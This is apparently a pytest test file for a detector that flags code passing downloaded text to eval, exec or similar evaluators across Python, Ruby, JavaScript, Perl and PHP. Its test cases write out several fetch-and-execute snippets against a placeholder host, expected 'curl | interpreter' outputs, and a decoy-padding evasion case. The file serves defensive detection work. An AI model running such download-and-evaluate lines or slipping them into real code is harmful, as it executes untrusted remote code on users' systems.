"""evaldownload: program code that evaluates what it downloads, read where an
evaluator is called, with bounded work whatever the text."""

from __future__ import annotations

import pytest

from aegis_core.policy.evaldownload import evaluated_downloads, language_of


@pytest.mark.parametrize(("code", "language"), [
    ("exec(urlopen('https://x.example/p').read())", "python"),
    ("import requests\nsrc = requests.get('https://x.example/p').text\n\n\nexec(src)", "python"),
    ("eval(URI.open('https://x.example/p').read)", "ruby"),
    ("body = Net::HTTP.get(URI('https://x.example/p'))\ninstance_eval(body)", "ruby"),
    ("binding.eval(`curl -s https://x.example/p`)", "ruby"),
    ("eval(await (await fetch('https://x.example/p')).text())", "javascript"),
    ("const s = await (await fetch('https://x.example/p')).text();\nvm.runInThisContext(s);", "javascript"),
    ("eval `curl -s https://x.example/p`;", "perl"),
    ("eval(file_get_contents('https://x.example/p'));", "php"),
])
def test_a_download_handed_to_an_evaluator_reads_as_running_it(code: str, language: str) -> None:
    found = evaluated_downloads(code, language)
    assert found.startswith("curl -s https://x.example/p | "), found


@pytest.mark.parametrize(("code", "language"), [
    ("rows = requests.get('https://x.example/d').json()\nmodel.eval()", "python"),
    ("df = pd.DataFrame(requests.get('https://x.example/d').json())\ndf.eval('c = a + b')", "python"),
    ("result = eval(expr)\nr = requests.get('https://x.example/')", "python"),  # not what eval is handed
    ("const fn = new Function('a', 'return a');\naxios.get('https://x.example/')", "javascript"),
    ("m = /a/.exec(s); const r = await fetch('/api')", "javascript"),
    ("data = Net::HTTP.get(URI('https://x.example/'))\nconfig = eval(File.read('c.rb'))", "ruby"),
    ("evaluate(fetch('https://x.example/'))", "javascript"),  # another name holding eval
])
def test_evaluators_and_downloads_apart_are_routine(code: str, language: str) -> None:
    assert evaluated_downloads(code, language) == ""


def test_too_many_evaluator_calls_beside_a_download_are_taken_as_one() -> None:
    """A text can hide the one that matters past the calls read: past the bound it asks."""
    decoys = "".join(f"eval(n{i})\n" for i in range(40))
    found = evaluated_downloads(decoys + "eval(requests.get('https://x.example/p').text)", "python")
    assert found == "curl -s https://unknown.invalid/ | python3"
    # Names of other objects' methods count toward the bound too (the work is bounded).
    assert evaluated_downloads("x.eval(1)\n" * 300 + "fetch('https://x.example/')", "javascript") != ""


def test_a_variable_set_elsewhere_than_from_a_download_is_not_taken_for_one() -> None:
    code = "src = open('local.py').read()\nother = requests.get('https://x.example/').text\nexec(src)"
    assert evaluated_downloads(code, "python") == ""
    assert evaluated_downloads("mysrc = fetch('https://x.example/')\neval(src)", "javascript") == ""


@pytest.mark.parametrize(("name", "language"), [
    ("conftest.py", "python"), ("Rakefile.rake", "ruby"), ("app.gemspec", "ruby"), ("vite.config.ts", "javascript"),
    ("x.PL", "perl"), ("index.php", "php"), ("README.md", None), ("Makefile", None)])
def test_language_of_a_file_name(name: str, language: str | None) -> None:
    assert language_of(name) == language
